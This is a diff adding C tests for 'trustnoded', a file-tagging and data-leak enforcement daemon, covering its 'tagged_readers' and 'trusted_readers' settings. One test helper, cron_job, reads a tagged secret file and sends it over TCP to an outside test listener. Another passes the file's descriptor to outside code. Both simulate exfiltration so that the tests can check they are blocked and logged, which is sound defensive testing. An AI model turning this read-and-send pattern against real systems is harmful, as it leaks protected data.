@@ -1495,4 +1495,347 @@ TEST_F_TIMEOUT(node, vsock_sockets_are_refused_in_lsm_mode_and_a_listed_gap_othe
 	}
 }
 
+/* ==== outsourcing: code run outside every workload ====================== */
+
+/*
+ * The workload had a crontab entry, an at job or an rc file run for it:
+ * code in no workload (below trustnoded's cgroup, or outside it, as cron's
+ * own cgroup would be) that reads a tagged file and sends what it read to
+ * the outside host. Returns 0 when it sent, the open's errno when the open
+ * failed, 200 + the connect's errno when that failed.
+ */
+static int cron_job(void *path)
+{
+	char buf[256];
+	ssize_t r;
+	int fd = open(path, O_RDONLY | O_CLOEXEC), s, ret;
+	struct sockaddr_storage ss;
+	socklen_t len;
+
+	if (fd < 0)
+		return errno;
+	r = read(fd, buf, sizeof(buf));
+	close(fd);
+	if (r <= 0)
+		return 250;
+	sockaddr_of(OUT4, PORT, &ss, &len);
+	s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	if (s < 0)
+		return 251;
+	ret = connect(s, (struct sockaddr *)&ss, len) ? 200 + errno : 0;
+	if (!ret && send(s, buf, r, MSG_NOSIGNAL) != r)
+		ret = 252;
+	close(s);
+	return ret;
+}
+
+/* What the outside listener got on one connection ("" if none). */
+static const char *listener_got(int listener)
+{
+	static char buf[256];
+	struct pollfd p = { .fd = listener, .events = POLLIN };
+	ssize_t r = 0;
+	int c;
+
+	buf[0] = '\0';
+	if (poll(&p, 1, 300) <= 0)
+		return buf;
+	c = accept4(listener, NULL, NULL, SOCK_NONBLOCK);
+	if (c < 0)
+		return buf;
+	p.fd = c;
+	if (poll(&p, 1, 1000) > 0)
+		r = recv(c, buf, sizeof(buf) - 1, 0);
+	buf[r > 0 ? r : 0] = '\0';
+	close(c);
+	return buf;
+}
+
+/* The test policy plus tagged_readers and trusted_readers lines. */
+static int load_readers_policy(struct tn_node *n, const char *mode,
+			       const char *extra, char *out, size_t outlen)
+{
+	char path[400], text[4096];
+	FILE *f;
+
+	snprintf(path, sizeof(path), "%s/readers.conf", n->tmp);
+	snprintf(text, sizeof(text),
+		 "mode = \"%s\";\n"
+		 "local_prefixes = [ \"198.51.100.0/24\", \"2001:db8:2::/64\" ];\n"
+		 "tags = ( { path = \"%s/secret\"; labels = [ \"phi\" ]; } );\n"
+		 "workloads = (\n"
+		 "  { name = \"wl\"; cgroup = \"%s\"; },\n"
+		 "  { name = \"wl2\"; cgroup = \"%s\"; }\n"
+		 ");\n"
+		 "%s",
+		 mode, n->data, n->wl_cg, n->wl2_cg, extra);
+	f = fopen(path, "w");
+	if (!f || fputs(text, f) < 0) {
+		if (f)
+			fclose(f);
+		return -1;
+	}
+	fclose(f);
+	return ctl(n, out, outlen, "policy load %s", path);
+}
+
+/* Whether one event line holds every fragment, counting such lines. */
+static int count_events(struct tn_node *n, const char *a, const char *b)
+{
+	static char buf[1 << 20];
+	char *line, *save = NULL;
+	int k = 0;
+
+	if (node_events(n, buf, sizeof(buf)))
+		return -1;
+	for (line = strtok_r(buf, "\n", &save); line; line = strtok_r(NULL, "\n", &save))
+		k += strstr(line, a) && (!b || strstr(line, b));
+	return k;
+}
+
+TEST_F_TIMEOUT(node, code_outside_every_workload_reads_tagged_files_unless_tagged_readers_closes_it, 180)
+{
+	const char *secret = data(&self->n, "secret");
+	int lsm = node_lsm_mode(&self->n);
+	char out[16384], cg[320];
+
+	ASSERT_EQ(lsm_expected(), lsm) TH_LOG("the guest must run this in lsm mode");
+
+	/* Without the setting: the listed gap, in both modes. */
+	EXPECT_EQ(0, in_cgroup(&self->n, self->n.other_cg, cron_job, (void *)secret));
+	EXPECT_STREQ("secret\n", listener_got(self->listeners[0]));
+	EXPECT_EQ(0, in_cgroup(&self->n, NULL, cron_job, (void *)secret));
+	EXPECT_STREQ("secret\n", listener_got(self->listeners[0]));
+	EXPECT_TRUE(gap_listed(&self->n, "outsourcing: code run outside every workload"));
+
+	if (!lsm) {
+		/* Cgroup mode cannot refuse an open: "workloads" is refused. */
+		EXPECT_EQ(5, load_readers_policy(&self->n, "enforce",
+						 "tagged_readers = \"workloads\";\n", out, sizeof(out)));
+		EXPECT_NE(NULL, strstr(out, "readers.conf:8: tagged_readers = \"workloads\" needs lsm mode")) TH_LOG("%s", out);
+		EXPECT_NE(NULL, strstr(out, "nothing changed")) TH_LOG("%s", out);
+		ASSERT_EQ(0, ctl(&self->n, out, sizeof(out), "status"));
+		EXPECT_NE(NULL, strstr(out, "readers:    anyone may open tagged files (tagged_readers = \"anyone\")")) TH_LOG("%s", out);
+		/* The operator who knows: loaded, the channel listed open. */
+		EXPECT_EQ(0, load_readers_policy(&self->n, "enforce",
+						 "tagged_readers = \"workloads-in-lsm-mode\";\n", out, sizeof(out))) TH_LOG("%s", out);
+		ASSERT_EQ(0, ctl(&self->n, out, sizeof(out), "status"));
+		EXPECT_NE(NULL, strstr(out, "anyone may open tagged files: tagged_readers is not enforced in this mode")) TH_LOG("%s", out);
+		EXPECT_NE(NULL, strstr(out, "outsourcing: the policy's tagged_readers = \"workloads-in-lsm-mode\" is not enforced in cgroup mode")) TH_LOG("%s", out);
+		EXPECT_EQ(0, in_cgroup(&self->n, self->n.other_cg, cron_job, (void *)secret));
+		EXPECT_STREQ("secret\n", listener_got(self->listeners[0]));
+		return;
+	}
+
+	ASSERT_EQ(0, load_readers_policy(&self->n, "enforce",
+					 "tagged_readers = \"workloads\";\n", out, sizeof(out))) TH_LOG("%s", out);
+	/* Below trustnoded's cgroup in no workload, and outside it (cron's). */
+	EXPECT_EQ(EACCES, in_cgroup(&self->n, self->n.other_cg, cron_job, (void *)secret));
+	EXPECT_TRUE(nothing_received(self->listeners[0], 300));
+	EXPECT_EQ(EACCES, in_cgroup(&self->n, NULL, cron_job, (void *)secret));
+	EXPECT_TRUE(nothing_received(self->listeners[0], 300));
+	/* The record names the process, its cgroup and the file's tag. */
+	snprintf(cg, sizeof(cg), "\"cgroup\":\"%s\"", self->n.other_cg);
+	for (int i = 0; i < 50 && !HAS_EVENT(&self->n, "\"type\":\"tagged-open\"", cg); i++)
+		usleep(100 * 1000);
+	{
+		char comm[64] = "", want[96];
+		FILE *f = fopen("/proc/self/comm", "r");
+
+		if (f) {
+			if (fgets(comm, sizeof(comm), f))
+				comm[strcspn(comm, "\n")] = '\0';
+			fclose(f);
+		}
+		snprintf(want, sizeof(want), "\"comm\":\"%s\"", comm);
+		EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"tagged-open\"", "\"decision\":\"deny\"",
+				      want, cg, "\"pid\":", "\"file\":\"inode ",
+				      "\"labels\":[\"phi\"]", "\"via\":\"open\""));
+	}
+	{
+		char tag[400];
+
+		snprintf(tag, sizeof(tag), "\"tag\":\"%s\"", secret);
+		EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"tagged-open\"", tag));
+	}
+	ASSERT_EQ(0, ctl(&self->n, out, sizeof(out), "status"));
+	EXPECT_EQ(NULL, strstr(out, "outsourcing:")) TH_LOG("%s", out);
+	EXPECT_NE(NULL, strstr(out, "readers:    tagged files open only to workloads and trusted readers")) TH_LOG("%s", out);
+	EXPECT_NE(NULL, strstr(out, "denied_tagged_opens      2")) TH_LOG("%s", out);
+
+	/* A workload still reads, is tainted, and is held as before. */
+	EXPECT_EQ(EPERM, ACT(&self->n, self->n.wl_cg, .open = secret, .connect = OUT4));
+	EXPECT_STREQ("phi", taint_of(&self->n, "wl"));
+	EXPECT_TRUE(nothing_received(self->listeners[0], 300));
+
+	/* Back to "anyone": as before, and the gap is listed again. */
+	ASSERT_EQ(0, load_readers_policy(&self->n, "enforce", "", out, sizeof(out))) TH_LOG("%s", out);
+	EXPECT_TRUE(gap_listed(&self->n, "outsourcing: code run outside every workload"));
+	EXPECT_EQ(0, in_cgroup(&self->n, self->n.other_cg, cron_job, (void *)secret));
+	EXPECT_STREQ("secret\n", listener_got(self->listeners[0]));
+}
+
+/* The outside process's end: receives one descriptor; 0, or the errno. */
+struct fd_pass {
+	const char *path;
+	int sock[2];
+};
+
+static int send_tagged_fd(void *arg)
+{
+	struct fd_pass *f = arg;
+	char c = 'x', cbuf[CMSG_SPACE(sizeof(int))] = { 0 };
+	struct iovec iov = { &c, 1 };
+	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1,
+			    .msg_control = cbuf, .msg_controllen = sizeof(cbuf) };
+	struct cmsghdr *cm = CMSG_FIRSTHDR(&m);
+	int fd = open(f->path, O_RDONLY | O_CLOEXEC);
+
+	if (fd < 0)
+		return errno;
+	cm->cmsg_level = SOL_SOCKET;
+	cm->cmsg_type = SCM_RIGHTS;
+	cm->cmsg_len = CMSG_LEN(sizeof(int));
+	memcpy(CMSG_DATA(cm), &fd, sizeof(int));
+	return sendmsg(f->sock[0], &m, 0) == 1 ? 0 : errno;
+}
+
+/* Receives a descriptor on sock: 0 with one, 1 when it was cut (MSG_CTRUNC). */
+static int receive_fd(int sock, int *fd)
+{
+	char c, cbuf[CMSG_SPACE(sizeof(int))] = { 0 };
+	struct iovec iov = { &c, 1 };
+	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1,
+			    .msg_control = cbuf, .msg_controllen = sizeof(cbuf) };
+	struct cmsghdr *cm;
+
+	*fd = -1;
+	if (recvmsg(sock, &m, MSG_CMSG_CLOEXEC) != 1)
+		return -1;
+	cm = CMSG_FIRSTHDR(&m);
+	if (cm && cm->cmsg_type == SCM_RIGHTS)
+		memcpy(fd, CMSG_DATA(cm), sizeof(int));
+	return *fd < 0 ? 1 : 0;
+}
+
+static int open_dir(void *path)
+{
+	int fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+
+	if (fd < 0)
+		return errno;
+	close(fd);
+	return 0;
+}
+
+static int open_many(void *path)
+{
+	int refused = 0;
+
+	for (int i = 0; i < 60; i++) {
+		int fd = open(path, O_RDONLY | O_CLOEXEC);
+
+		if (fd >= 0)
+			close(fd);
+		else
+			refused += errno == EACCES;
+	}
+	return refused == 60 ? 0 : 1;
+}
+
+TEST_F_TIMEOUT(node, trusted_readers_and_the_agent_still_work_under_tagged_readers, 240)
+{
+	const char *secret = data(&self->n, "secret"), *plain = data(&self->n, "plain");
+	char out[16384], extra[2048], reader[320], job[340], outside[320], later[340];
+	struct fd_pass fp = { .path = secret };
+	int fd, c;
+
+	if (!node_lsm_mode(&self->n)) {
+		ASSERT_FALSE(lsm_expected());
+		SKIP(return, "cgroup mode: tagged_readers is refused here (the test above shows it)");
+	}
+	/* A reader below trustnoded's cgroup with a job below it, one outside. */
+	snprintf(reader, sizeof(reader), "%s/backup", self->n.cgroot);
+	snprintf(job, sizeof(job), "%s/job", reader);
+	snprintf(outside, sizeof(outside), "%.280s-reader", self->n.cgroot);
+	snprintf(later, sizeof(later), "%s/later", self->n.cgroot);
+	ASSERT_EQ(0, run_cmd("mkdir -p %s %s", job, outside));
+	snprintf(extra, sizeof(extra),
+		 "tagged_readers = \"workloads\";\n"
+		 "trusted_readers = (\n"
+		 "  { name = \"backup\"; cgroup = \"%s\"; },\n"
+		 "  { name = \"outside\"; cgroup = \"%s\"; },\n"
+		 "  { name = \"later\"; cgroup = \"%s\"; }\n"
+		 ");\n", reader, outside, later);
+	c = load_readers_policy(&self->n, "enforce", extra, out, sizeof(out));
+	EXPECT_EQ(0, c) TH_LOG("%s", out);
+	if (c)
+		goto out;
+
+	/* Trusted readers (and what runs below them) open, untainted. */
+	EXPECT_EQ(0, ACT(&self->n, reader, .open = secret));
+	EXPECT_EQ(0, ACT(&self->n, job, .open = secret));
+	EXPECT_EQ(0, ACT(&self->n, outside, .open = secret));
+	/* A pending reader: refused until its cgroup exists and is seen. */
+	EXPECT_EQ(254, ACT(&self->n, self->n.other_cg, .open = secret));
+	EXPECT_EQ(0, mkdir(later, 0755));
+	for (c = 0; c < 50 && ACT(&self->n, later, .open = secret); c++)
+		usleep(100 * 1000);
+	EXPECT_EQ(0, ACT(&self->n, later, .open = secret));
+	EXPECT_TRUE(HAS_EVENT(&self->n, "\"change\":\"reader-cgroup-appeared\"", "\"trusted_reader\":\"later\""));
+	ASSERT_EQ(0, ctl(&self->n, out, sizeof(out), "status"));
+	EXPECT_NE(NULL, strstr(out, "reader:     backup ")) TH_LOG("%s", out);
+	EXPECT_STREQ("-", taint_of(&self->n, "wl"));
+
+	/* The agent's own work on tagged files: tag, untag, derive, prune. */
+	EXPECT_EQ(0, ctl(&self->n, out, sizeof(out), "tag %s --label x", plain)) TH_LOG("%s", out);
+	EXPECT_EQ(EACCES, in_cgroup(&self->n, self->n.other_cg, cron_job, (void *)plain));
+	EXPECT_EQ(0, ctl(&self->n, out, sizeof(out), "untag %s", plain)) TH_LOG("%s", out);
+	EXPECT_EQ(0, ACT(&self->n, self->n.other_cg, .open = plain));
+	EXPECT_EQ(0, ACT(&self->n, self->n.wl_cg, .open = secret, .write = data(&self->n, "derived")));
+	EXPECT_EQ(EACCES, in_cgroup(&self->n, NULL, cron_job, (void *)data(&self->n, "derived")));
+	EXPECT_TRUE(nothing_received(self->listeners[0], 300));
+	EXPECT_EQ(0, ctl(&self->n, out, sizeof(out), "tag prune")) TH_LOG("%s", out);
+	EXPECT_EQ(0, ctl(&self->n, out, sizeof(out), "tag list")) TH_LOG("%s", out);
+	EXPECT_NE(NULL, strstr(out, "derived")) TH_LOG("%s", out);
+
+	/* A tagged directory: its files, and the listing itself. */
+	EXPECT_EQ(0, ctl(&self->n, out, sizeof(out), "tag %s --label fin", data(&self->n, "tagged-dir")));
+	EXPECT_EQ(EACCES, in_cgroup(&self->n, NULL, cron_job, (void *)data(&self->n, "tagged-dir/old")));
+	EXPECT_EQ(EACCES, in_cgroup(&self->n, NULL, open_dir, (void *)data(&self->n, "tagged-dir")));
+	EXPECT_EQ(0, ACT(&self->n, reader, .open = data(&self->n, "tagged-dir/old")));
+
+	/* A workload hands a descriptor to code outside: not received. */
+	ASSERT_EQ(0, socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, fp.sock));
+	EXPECT_EQ(0, in_cgroup(&self->n, self->n.wl_cg, send_tagged_fd, &fp));
+	EXPECT_EQ(1, receive_fd(fp.sock[1], &fd));
+	if (fd >= 0)
+		close(fd);
+	close(fp.sock[0]);
+	close(fp.sock[1]);
+	for (c = 0; c < 50 && !HAS_EVENT(&self->n, "\"type\":\"tagged-open\"", "\"via\":\"scm_rights\""); c++)
+		usleep(100 * 1000);
+	EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"tagged-open\"", "\"via\":\"scm_rights\""));
+	EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"tagged-open\"", "\"tag\":\"(derived tag)\""));
+
+	/* A walk over tagged files: a burst of events, the rest counted. */
+	EXPECT_EQ(0, in_cgroup(&self->n, NULL, open_many, (void *)secret));
+	for (c = 0; c < 50 && !HAS_EVENT(&self->n, "\"type\":\"tagged-opens-unreported\""); c++)
+		usleep(100 * 1000);
+	EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"tagged-opens-unreported\""));
+	EXPECT_LE(count_events(&self->n, "\"type\":\"tagged-open\"", NULL), 60 - 30)
+		TH_LOG("the rate limit let most of 60 refusals through as events");
+
+	/* Audit mode: allowed and recorded. */
+	EXPECT_EQ(0, load_readers_policy(&self->n, "audit", "tagged_readers = \"workloads\";\n", out, sizeof(out))) TH_LOG("%s", out);
+	sleep(1);	/* the event bucket refills */
+	EXPECT_EQ(0, ACT(&self->n, self->n.other_cg, .open = secret));
+	for (c = 0; c < 50 && !HAS_EVENT(&self->n, "\"type\":\"tagged-open\"", "\"decision\":\"allow-audit\""); c++)
+		usleep(100 * 1000);
+	EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"tagged-open\"", "\"decision\":\"allow-audit\""));
+out:
+	/* Outside the node's cgroup: node_destroy would not remove it. */
+	rmdir(outside);
+}
+
 TEST_HARNESS_MAIN
